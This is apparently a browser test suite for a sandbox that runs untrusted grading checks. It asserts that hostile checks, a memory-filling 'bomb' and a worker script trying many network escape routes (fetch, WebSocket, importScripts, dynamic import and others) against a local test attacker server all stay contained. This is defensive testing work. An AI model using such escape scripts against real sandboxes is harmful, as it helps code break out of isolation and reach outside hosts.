import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createThreadGrader } from '../../src/cli/thread-grader.ts'
import { launchBrowser } from '../helpers/browser.ts'
import { serveSandboxSite } from '../helpers/sandbox-site.ts'
import type { SandboxSite } from '../helpers/sandbox-site.ts'
import { ATTACKS, attackScript } from '../workers/attacks.ts'
import { HOSTILE, HOSTILE_SOURCE, OUTPUTS, surprises, TIMEOUT_MS } from '../workers/hostile-checks.ts'
import type {} from './sandbox-page/page.ts'

const CASE = { id: 'refund', reference: 'within 14 days', contexts: ['policy'] }
const BATCHES = HOSTILE.map(({ name }) => ({ check: name, case: CASE, inputs: OUTPUTS.map((output) => ({ output })) }))

let site: SandboxSite
let browser: Browser
let page: Page
const violations: string[] = []

beforeAll(async () => {
  site = await serveSandboxSite()
  browser = await launchBrowser()
  page = await browser.newPage()
  page.on('console', (message) => message.type() === 'error' && violations.push(message.text()))
  page.on('pageerror', (error) => violations.push(error.message))
  await page.goto(site.url)
})

afterAll(async () => {
  await browser?.close()
  site?.close()
})

const create = (source: string, limits = { timeoutMs: TIMEOUT_MS }) =>
  page.evaluate((options) => window.sandbox.create(options), { source, limits })

test('loads under a strict policy, from a sub-path, without a violation', async () => {
  const made = await create(`import { contains } from 'mustfail/checks'\nexport const a = contains('14')`)
  expect(made).toMatchObject({ problems: [], checks: [{ name: 'a', family: 'contains', builtIn: { factory: 'contains', args: ['14'] } }] })
  expect(violations).toEqual([])
})

test('hostile checks harm their own row only, and the page stays responsive', async () => {
  await create(HOSTILE_SOURCE)
  await page.evaluate(() => window.sandbox.gap())
  const verdicts = await page.evaluate((batches) => window.sandbox.grade(batches), BATCHES)
  expect(surprises(verdicts)).toEqual([])
  expect(await page.evaluate(() => window.sandbox.gap())).toBeLessThan(1_000)
})

test('says the same as a thread, down to the reasons', async () => {
  const source = `import { contains, number, jsonSchema } from 'mustfail/checks'
    export const window14 = contains('14')
    export const schema = jsonSchema({ type: 'object', properties: { days: { $ref: '#/$defs/days' } }, $defs: { days: { type: 'integer' } } })
    export const boom = (output: string) => {
      throw new RangeError('about ' + output)
    }
    export const chance = () => ({ pass: Math.random() < 0.5, score: Math.random(), reason: new Date().toISOString() })`
  const { stamp } = await create(source)
  const inputs = ['14', '{"days": 14}', '{"days": "14"}', ''].map((output) => ({ output }))
  const batches = ['window14', 'schema', 'boom', 'chance'].map((check) => ({ check, case: CASE, inputs }))
  const inPage = await page.evaluate((asked) => window.sandbox.grade(asked), batches)
  const thread = await createThreadGrader({ source, limits: { timeoutMs: TIMEOUT_MS } })
  expect(inPage).toEqual(await thread.grade(batches))
  expect(stamp).toBe(thread.stamp)
  thread.dispose()
})

test('a check finds no way out', async () => {
  await create(attackScript(site.attacker.url))
  const [verdicts = []] = await page.evaluate(
    (asked) => window.sandbox.grade(asked),
    [{ check: 'attack', case: CASE, inputs: ATTACKS.map((_, index) => ({ output: String(index) })) }],
  )
  const escaped = verdicts.flatMap((verdict, index) => (verdict.status === 'rejected' ? [] : [`${ATTACKS[index]?.what}: ${JSON.stringify(verdict)}`]))
  await page.waitForTimeout(500)
  expect(escaped).toEqual([])
  expect(site.attacker.hits).toEqual([])
})

test("the frame's policy alone stops what the harness would not have swept", async () => {
  const said = await page.evaluate((script) => window.sandbox.withoutHarness(script), bareAttack(site.attacker.url))
  await page.waitForTimeout(500)
  expect(said).toEqual([])
  expect(site.attacker.hits).toEqual([])
})

test('the same script gets through where no policy stops it', async () => {
  const other = await browser.newPage()
  await other.goto(site.attacker.url)
  const through = await other.evaluate((script) => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([script])))
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => resolve(data)
    worker.postMessage({}, [port2])
  }), bareAttack(site.attacker.url))
  expect(through).toEqual(expect.arrayContaining(['fetch', 'xhr', 'importScripts', 'import', 'database', 'code']))
  expect(site.attacker.hits).toEqual(expect.arrayContaining(['GET /fetch', 'GET /import', 'upgrade /socket']))
  await other.close()
})

test('a check that fills the memory takes down no other row', async () => {
  await create(`
    export const bomb = (output) => { const kept = []; while (output !== 'x') kept.push(new Array(1e6).fill(kept.length)); return true }
    export const sound = () => true`, { timeoutMs: 500 })
  const inputs = ['x', 'grow', 'x'].map((output) => ({ output }))
  const verdicts = await page.evaluate(
    (asked) => window.sandbox.grade(asked),
    ['bomb', 'sound'].map((check) => ({ check, case: CASE, inputs })),
  )
  expect(verdicts.map((row) => row.map(({ status }) => status))).toEqual([
    ['accepted', expect.stringMatching(/^(error|timeout)$/), 'accepted'], ['accepted', 'accepted', 'accepted'],
  ])
})

describe('the module', () => {
  test.each([
    ['a syntax error', 'export const a = (\n  ) => {', 2],
    ['an import that the library does not have', `\nimport { noSuchCheck } from 'mustfail/checks'\nexport const a = noSuchCheck()`, 2],
    ['an exception while it loads', `export const a = () => true\nthrow new Error('early')`, 2],
  ])('with %s is refused with its line', async (_, source, line) => {
    expect((await create(source)).problems.map((problem) => problem.line)).toEqual([line])
  })
})

describe('the frame', () => {
  test.each([
    ['without the sandbox attribute', false],
    ['by a page of another origin', true],
  ])('refuses to run when it is framed %s', async (_, foreign) => {
    const other = await browser.newPage()
    await other.goto(foreign ? site.attacker.url : site.url)
    site.attacker.hits.length = 0
    const answered = await other.evaluate(async ({ src, sandboxed }) => {
      const frame = document.createElement('iframe')
      if (sandboxed) frame.setAttribute('sandbox', 'allow-scripts')
      frame.src = src
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve)
        document.body.append(frame)
      })
      const { port1, port2 } = new MessageChannel()
      frame.contentWindow?.postMessage({ bootstrap: '' }, '*', [port1])
      return Promise.race([
        new Promise((resolve) => (port2.onmessage = () => resolve('answered'))),
        new Promise((resolve) => setTimeout(() => resolve('silent'), 700)),
      ])
    }, { src: `${site.url}sandbox.html`, sandboxed: foreign })
    expect(answered).toBe('silent')
    await other.close()
  })
})

/** A worker that tries each way to the network and sends what got through. */
function bareAttack(url: string): string {
  return `onmessage = async (event) => {
    const through = []
    const tries = {
      fetch: () => fetch('${url}/fetch'),
      xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', '${url}/xhr'); x.send() }),
      socket: () => new Promise((yes, no) => { const s = new WebSocket('${url.replace('http', 'ws')}/socket'); s.onopen = yes; s.onerror = no }),
      events: () => new Promise((yes, no) => { const s = new EventSource('${url}/events'); s.onopen = yes; s.onerror = no }),
      importScripts: () => importScripts('${url}/scripts'),
      import: () => import('${url}/import'),
      data: () => import('data:text/javascript,1'),
      worker: () => new Promise((yes, no) => { const w = new Worker('${url}/worker'); w.onmessage = yes; w.onerror = no }),
      font: () => new FontFace('a', 'url(${url}/font)').load(),
      database: () => new Promise((yes, no) => { const r = indexedDB.open('a'); r.onsuccess = yes; r.onerror = no }),
      code: () => new Function('return 1')(),
      own: () => fetch(location.origin + '/repo/'),
    }
    for (const [name, run] of Object.entries(tries)) {
      try { await Promise.race([run(), new Promise((_, no) => setTimeout(no, 1500))]); through.push(name) } catch {}
    }
    event.ports[0].postMessage(through)
  }`
}
